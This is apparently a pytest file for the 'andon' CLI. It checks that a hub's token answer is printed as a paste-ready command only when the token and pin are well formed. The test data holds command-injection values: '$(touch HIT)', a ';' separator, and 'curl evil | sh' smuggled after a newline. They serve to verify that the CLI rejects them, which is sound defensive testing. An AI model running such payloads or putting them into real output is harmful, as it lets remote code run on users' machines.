"""What a hub answers when it makes a token: it is printed to be pasted."""

from typing import Any

import pytest

from andon.cli.main import run
from andon.errors import AndonError, Unavailable
from tests.support.replaced import answers

TOKEN, PIN = "a-_9" + "x" * 39, "sha256:" + "0f" * 32


class PlayedHub:
    """A hub that answers anything."""

    def __init__(self, answer: dict[str, Any], url: str) -> None:
        self._answer, self.url = answer, url

    def post(self, path: str, body: object) -> dict[str, Any]:
        return self._answer

    def of_another_version(self, difference: str) -> AndonError:
        return Unavailable(difference)


@pytest.fixture
def printed(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Any:
    def made(command: str, answer: dict[str, Any], url: str = "https://hub") -> tuple[int, str]:
        for place in ("nodes", "token"):
            hub = PlayedHub(answer, url)
            answers(monkeypatch, f"andon.cli.commands.fleet.{place}", "hub_of", hub)
        role = ["--role", "read"] if command == "token" else []
        code = run([command, "add", "n1", *role, "--quiet"])
        return code, capsys.readouterr().out

    return made


@pytest.mark.parametrize(
    "odd",
    [
        {}, {"token": None}, {"token": ""}, {"token": 7}, {"token": TOKEN[1:]},
        {"token": TOKEN[:-1] + "\n"}, {"token": "x;touch HIT #" + "x" * 30},
        {"token": "$(touch HIT)" + "x" * 31}, {"token": TOKEN + "\ncurl evil | sh"},
        {"token": TOKEN, "pin": "sha256:x\ncurl evil | sh"}, {"token": TOKEN, "pin": PIN + " x"},
        {"token": TOKEN, "pin": 5},
    ],
)  # fmt: skip
def test_an_answer_that_is_no_token_is_not_pasted(printed: Any, odd: dict[str, Any]) -> None:
    for command in ("nodes", "token"):
        if command == "nodes" or "pin" not in odd:
            assert printed(command, odd) == (Unavailable.exit_code, "")


def test_the_line_to_paste_is_one_of_quoted_words(printed: Any) -> None:
    line = f"ANDON_HUB_TOKEN={TOKEN} ANDON_HUB_PIN={PIN} andon agent --hub https://hub\n"
    assert printed("nodes", {"token": TOKEN, "pin": PIN}) == (0, line)
    line = f"ANDON_HUB_TOKEN={TOKEN} andon agent --hub 'http://h/$(a)'\n"
    assert printed("nodes", {"token": TOKEN, "pin": None}, "http://h/$(a)") == (0, line)
    assert printed("token", {"token": TOKEN}) == (0, f"{TOKEN}\n")
